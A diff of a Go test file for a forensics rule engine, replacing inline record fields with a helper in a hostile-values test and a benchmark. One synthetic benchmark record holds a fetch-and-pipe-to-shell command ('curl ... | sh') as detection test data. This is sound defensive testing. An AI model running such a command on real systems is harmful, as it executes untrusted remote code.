@@ -9,6 +9,7 @@ import (
 	"testing"
 
 	"icecore/forensics/artifact"
+	"icecore/forensics/model/modeltest"
 )
 
 // load writes one rule to a folder and reads it as the user's.
@@ -96,7 +97,7 @@ func TestHostileValues(t *testing.T) {
 	r := load(t, head+"detection:\n  selection:\n    count|gt: 5\n    CommandLine|contains: x\n  condition: selection\n")
 	for _, v := range []string{"6", "~", "null", "", "[", "6e999", "0x10", "- a", "\xff\xfe", strings.Repeat("9", 1000)} {
 		rec := artifact.Record{ID: "R-1", Kind: "cron.run", Source: artifact.Source{Volume: "p1"}}
-		rec.Fields = []artifact.Field{{Name: "command", Value: "x"}, {Name: "count", Value: v}}
+		rec.Fields = modeltest.Fields(rec.Kind, "command=x", "count="+v)
 		res, err := r.Run(t.Context(), &Input{Records: []artifact.Record{rec}, System: &artifact.System{}})
 		if err != nil {
 			t.Fatalf("%q: %v", v, err)
@@ -133,15 +134,15 @@ func BenchmarkRun(b *testing.B) {
 		var rec artifact.Record
 		switch i % 5 {
 		case 0:
-			rec = artifact.Record{Kind: "auth.failures", Fields: []artifact.Field{{Name: "address", Value: fmt.Sprintf("192.0.2.%d", i%250)}, {Name: "count", Value: "3"}, {Name: "users", Value: "root,admin"}}}
+			rec = artifact.Record{Kind: "auth.failures", Fields: modeltest.Fields("auth.failures", "address="+fmt.Sprintf("192.0.2.%d", i%250), "count=3", "users=root,admin")}
 		case 1:
-			rec = artifact.Record{Kind: "cron.run", Fields: []artifact.Field{{Name: "command", Value: "/usr/local/bin/job"}, {Name: "programs", Value: "/usr/local/bin/job"}}}
+			rec = artifact.Record{Kind: "cron.run", Fields: modeltest.Fields("cron.run", "command=/usr/local/bin/job", "programs=/usr/local/bin/job")}
 		case 2:
-			rec = artifact.Record{Kind: "auth.sudo", Fields: []artifact.Field{{Name: "command", Value: "/usr/bin/systemctl restart app"}, {Name: "programs", Value: "/usr/bin/systemctl"}}}
+			rec = artifact.Record{Kind: "auth.sudo", Fields: modeltest.Fields("auth.sudo", "command=/usr/bin/systemctl restart app", "programs=/usr/bin/systemctl")}
 		case 3:
-			rec = artifact.Record{Kind: "systemd.exec", Fields: []artifact.Field{{Name: "command", Value: "/usr/bin/a"}, {Name: "programs", Value: "/usr/bin/a"}}}
+			rec = artifact.Record{Kind: "systemd.exec", Fields: modeltest.Fields("systemd.exec", "command=/usr/bin/a", "programs=/usr/bin/a")}
 		case 4:
-			rec = artifact.Record{Kind: "history.command", Fields: []artifact.Field{{Name: "command", Value: "curl http://198.51.100.1 | sh"}, {Name: "traits", Value: "fetch,pipe_to_shell"}}}
+			rec = artifact.Record{Kind: "history.command", Fields: modeltest.Fields("history.command", "command=curl http://198.51.100.1 | sh", "traits=fetch,pipe_to_shell")}
 		}
 		rec.ID = fmt.Sprintf("R-%06d", i)
 		rec.Source = artifact.Source{Volume: "p1", Path: "/var/log/x", Inode: uint64(i % 7)}
